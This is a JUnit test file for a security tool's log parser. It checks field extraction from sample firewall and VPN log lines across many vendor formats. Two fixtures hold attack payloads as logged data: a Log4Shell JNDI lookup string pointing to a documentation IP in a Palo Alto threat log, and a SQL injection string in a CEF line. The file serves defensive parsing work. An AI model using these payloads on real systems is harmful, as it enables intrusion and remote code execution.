package io.cybershield.shield.gateway.triage.logs;

import org.junit.jupiter.api.Test;

import static io.cybershield.shield.gateway.triage.logs.ParsedLines.parsed;

/** Firewall and VPN lines: netfilter, FortiGate, CEF, LEEF, Palo Alto, pf, Cisco ASA, OpenVPN, GlobalProtect. */
class NetworkLinesTest {

  @Test
  void iptablesDrop() {
    parsed(LogSource.AUTO, "Mar  3 13:00:01 gw-1 kernel: [99812.113] IPTABLES-DROP: IN=eth0 OUT= "
        + "MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 SRC=203.0.113.66 DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 "
        + "TTL=52 ID=5123 DF PROTO=TCP SPT=44321 DPT=3389 WINDOW=64240 RES=0x00 SYN URGP=0")
        .is(LogSource.FIREWALL, LogFormat.SYSLOG).has("src_ip", "203.0.113.66").has("dst_ip", "10.0.0.5")
        .has("src_port", "44321").has("dst_port", "3389").has("proto", "tcp").has("action", "drop")
        .has("IN", "eth0").has("OUT", "");
  }

  @Test
  void ufwBlock() {
    parsed(LogSource.FIREWALL, "Mar  3 13:00:02 web-3 kernel: [UFW BLOCK] IN=ens3 OUT= SRC=198.51.100.3 "
        + "DST=10.0.0.8 PROTO=UDP SPT=5353 DPT=161").has("action", "deny").has("proto", "udp").has("dst_port", "161");
  }

  @Test
  void fortigateTrafficDeny() {
    parsed(LogSource.AUTO, "date=2026-03-03 time=13:05:10 devname=\"FGT-EDGE\" devid=\"FGT60F0000000001\" "
        + "logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" level=\"notice\" srcip=10.0.4.22 srcport=51514 "
        + "srcintf=\"lan\" dstip=185.220.101.4 dstport=443 dstintf=\"wan1\" policyid=12 proto=6 action=\"deny\" "
        + "service=\"HTTPS\" app=\"Tor\" sentbyte=0 rcvdbyte=0 dstcountry=\"Germany\"")
        .is(LogSource.FIREWALL, LogFormat.KEY_VALUE).has("src_ip", "10.0.4.22").has("dst_ip", "185.220.101.4")
        .has("src_port", "51514").has("dst_port", "443").has("proto", "tcp").has("action", "deny")
        .has("app", "Tor").has("rule", "12").has("bytes_out", "0").has("devname", "FGT-EDGE");
  }

  @Test
  void fortigateIpsAndClose() {
    parsed(LogSource.FIREWALL, "devname=\"FGT-EDGE\" devid=\"FGT60F0000000001\" type=\"utm\" subtype=\"ips\" "
        + "srcip=203.0.113.80 dstip=10.0.0.20 dstport=8080 proto=6 action=\"dropped\" "
        + "attack=\"Apache.Log4j.Error.Log.Remote.Code.Execution\"")
        .has("threat", "Apache.Log4j.Error.Log.Remote.Code.Execution").has("action", "drop")
        .has("action_raw", "dropped");
    parsed(LogSource.FIREWALL, "devname=\"FGT-EDGE\" devid=\"FGT60F0000000001\" srcip=10.0.4.22 dstip=52.0.0.1 "
        + "action=\"close\" sentbyte=734003200").has("action", "allow").has("bytes_out", "734003200");
  }

  @Test
  void fortigateSslVpnLoginFailure() {
    parsed(LogSource.AUTO, "date=2026-03-03 time=13:10:00 devname=\"FGT-EDGE\" devid=\"FGT60F0000000001\" "
        + "logid=\"0101039426\" type=\"event\" subtype=\"vpn\" level=\"alert\" action=\"ssl-login-fail\" "
        + "tunneltype=\"ssl-web\" remip=203.0.113.19 user=\"jsmith\" group=\"N/A\" reason=\"sslvpn_login_permission_denied\" "
        + "msg=\"SSL user failed to logged in\" srccountry=\"Brazil\"")
        .is(LogSource.VPN, LogFormat.KEY_VALUE).has("user", "jsmith").has("src_ip", "203.0.113.19")
        .has("outcome", "failure").has("country", "Brazil").has("message", "SSL user failed to logged in");
  }

  @Test
  void cef() {
    parsed(LogSource.AUTO, "Mar  3 13:20:00 ids-1 CEF:0|Acme|NetGuard IPS|4.2|1002|SQL injection attempt|8|"
        + "src=203.0.113.90 spt=40112 dst=10.0.0.30 dpt=443 proto=TCP act=blocked suser=web cat=Intrusion "
        + "request=https://shop.example/item?id=1' OR '1'='1 msg=matched rule 1002 with spaces")
        .is(LogSource.FIREWALL, LogFormat.CEF).has("cef.vendor", "Acme").has("cef.product", "NetGuard IPS")
        .has("cef.signature_id", "1002").has("cef.name", "SQL injection attempt").has("cef.severity", "8")
        .has("src_ip", "203.0.113.90").has("dst_ip", "10.0.0.30").has("src_port", "40112").has("dst_port", "443")
        .has("action", "deny").has("user", "web").has("threat", "SQL injection attempt")
        .has("request", "https://shop.example/item?id=1' OR '1'='1").has("message", "matched rule 1002 with spaces");
  }

  @Test
  void cefEscapes() {
    parsed(LogSource.FIREWALL, "CEF:0|Ven\\|dor|Prod|1|7|Name|3|msg=a\\=b c cs1Label=Policy cs1=Block-All")
        .has("cef.vendor", "Ven|dor").has("msg", "a=b c").has("Policy", "Block-All").has("rule", "Block-All");
  }

  @Test
  void leef() {
    parsed(LogSource.AUTO, "LEEF:1.0|Acme|Edge|1.0|deny|src=198.51.100.77\tdst=10.0.0.9\tdstPort=22\tproto=TCP"
        + "\tusrName=root\taction=deny")
        .is(LogSource.FIREWALL, LogFormat.LEEF).has("leef.vendor", "Acme").has("src_ip", "198.51.100.77")
        .has("dst_port", "22").has("user", "root").has("action", "deny");
  }

  @Test
  void ciscoAsaDenyAndBuilt() {
    parsed(LogSource.AUTO, "Mar  3 13:30:00 asa-1 %ASA-4-106023: Deny tcp src outside:203.0.113.5/51234 dst "
        + "inside:10.0.0.5/22 by access-group \"outside_in\" [0x0, 0x0]")
        .is(LogSource.FIREWALL, LogFormat.SYSLOG).has("action", "deny").has("proto", "tcp")
        .has("src_ip", "203.0.113.5").has("src_port", "51234").has("dst_ip", "10.0.0.5").has("dst_port", "22")
        .has("rule", "outside_in").has("asa.message_id", "106023");
    parsed(LogSource.FIREWALL, "%ASA-6-302013: Built inbound TCP connection 4411 for outside:198.51.100.2/3344 "
        + "(198.51.100.2/3344) to dmz:10.1.1.10/443 (10.1.1.10/443)")
        .has("action", "allow").has("src_ip", "198.51.100.2").has("dst_ip", "10.1.1.10").has("dst_port", "443");
    parsed(LogSource.FIREWALL, "%ASA-4-106100: access-list outside_in denied udp outside/203.0.113.7(5060) -> "
        + "inside/10.0.0.40(5060) hit-cnt 1 first hit [0x1, 0x0]")
        .has("action", "deny").has("rule", "outside_in").has("src_ip", "203.0.113.7").has("dst_port", "5060");
  }

  @Test
  void ciscoAnyConnectVpn() {
    parsed(LogSource.AUTO, "Mar  3 13:31:00 asa-1 %ASA-6-113005: AAA user authentication Rejected : reason = "
        + "Invalid password : server = 10.0.0.2 : user = jsmith : user IP = 203.0.113.19")
        .is(LogSource.VPN, LogFormat.SYSLOG).has("user", "jsmith").has("src_ip", "203.0.113.19")
        .has("outcome", "failure");
    parsed(LogSource.VPN, "%ASA-6-722051: Group <RemoteStaff> User <akumar> IP <198.51.100.44> IPv4 Address "
        + "<10.8.0.12> assigned to session").has("user", "akumar").has("src_ip", "198.51.100.44")
        .has("outcome", "success");
  }

  @Test
  void paloAltoTrafficAndThreatCsv() {
    String traffic = "1,2026/03/03 13:40:00,012801000001,TRAFFIC,end,2561,2026/03/03 13:40:00,10.0.4.22,"
        + "198.51.100.250,203.0.113.1,198.51.100.250,allow-web,corp\\jdoe,,web-browsing,vsys1,trust,untrust,"
        + "ethernet1/2,ethernet1/1,fwd,2026/03/03 13:40:00,55123,1,52000,443,41000,443,0x400064,tcp,allow,"
        + "912000000,910000000,2000000,900,2026/03/03 13:25:00,900,any,0";
    parsed(LogSource.fromName("pan").orElseThrow(), traffic).is(LogSource.FIREWALL, LogFormat.CSV)
        .has("src_ip", "10.0.4.22").has("dst_ip", "198.51.100.250").has("rule", "allow-web")
        .has("user", "corp\\jdoe").has("app", "web-browsing").has("src_port", "52000").has("dst_port", "443")
        .has("proto", "tcp").has("action", "allow").has("bytes_out", "910000000");
    String threat = "1,2026/03/03 13:41:00,012801000001,THREAT,vulnerability,2561,2026/03/03 13:41:00,"
        + "203.0.113.80,10.0.0.20,0.0.0.0,0.0.0.0,inbound-dmz,,,web-browsing,vsys1,untrust,dmz,ethernet1/1,"
        + "ethernet1/3,fwd,2026/03/03 13:41:00,66001,1,40444,8080,0,0,0x2000,tcp,reset-both,"
        + "\"shop.example/api?x=${jndi:ldap://203.0.113.80/a}\",Apache Log4j Remote Code Execution(91991),"
        + "code-execution,critical,client-to-server";
    parsed(LogSource.FIREWALL, threat).has("threat", "Apache Log4j Remote Code Execution(91991)")
        .has("action", "reset").has("severity", "critical")
        .has("uri", "shop.example/api?x=${jndi:ldap://203.0.113.80/a}");
  }

  @Test
  void pfBlock() {
    parsed(LogSource.FIREWALL, "Mar  3 13:50:00 fw-2 filterlog: 00:00:01.000000 rule 12/(match) block in on em0: "
        + "198.51.100.7.51514 > 10.0.0.5.22: Flags [S], seq 1")
        .has("action", "deny").has("src_ip", "198.51.100.7").has("src_port", "51514").has("dst_ip", "10.0.0.5")
        .has("dst_port", "22").has("proto", "tcp");
  }

  @Test
  void openVpnPeerAndFailure() {
    parsed(LogSource.AUTO, "Mar  3 14:00:00 vpn-1 openvpn[812]: 198.51.100.31:50444 [akumar] Peer Connection "
        + "Initiated with [AF_INET]198.51.100.31:50444")
        .is(LogSource.VPN, LogFormat.SYSLOG).has("user", "akumar").has("src_ip", "198.51.100.31")
        .has("outcome", "success");
    parsed(LogSource.VPN, "Mar  3 14:01:00 vpn-1 openvpn[812]: 203.0.113.19:40022 TLS Auth Error: Auth "
        + "Username/Password verification failed for peer").has("src_ip", "203.0.113.19").has("outcome", "failure");
  }

  @Test
  void globalProtectTextAndWireGuard() {
    parsed(LogSource.VPN, "Mar  3 14:05:00 pa-1 1,2026/03/03 14:05:00,0128,SYSTEM,globalprotect,0,2026/03/03 14:05:00,"
        + ",globalprotectgateway-auth-fail,GP-GW,0,0,general,informational,\"GlobalProtect gateway user "
        + "authentication failed. Login from: 203.0.113.19, Source region: BR, User name: jsmith, Reason: "
        + "Authentication failed: Invalid username or password, Auth type: profile.\",1,0x0")
        .has("user", "jsmith").has("src_ip", "203.0.113.19").has("country", "BR").has("outcome", "failure");
    parsed(LogSource.VPN, "Mar  3 14:06:00 vpn-2 kernel: wireguard: wg0: Handshake for peer 7 (203.0.113.88:51820) "
        + "did not complete after 5 seconds, retrying (try 2)").has("src_ip", "203.0.113.88")
        .has("outcome", "failure");
  }

  @Test
  void genericJsonVpn() {
    parsed(LogSource.VPN, "{\"ts\":\"2026-03-03T14:10:00Z\",\"username\":\"akumar\",\"remote_ip\":\"198.51.100.31\","
        + "\"country_code\":\"IN\",\"result\":\"FAILED\",\"msg\":\"login failed: bad OTP\"}")
        .has("user", "akumar").has("src_ip", "198.51.100.31").has("country", "IN").has("outcome", "failure")
        .has("message", "login failed: bad OTP");
  }
}
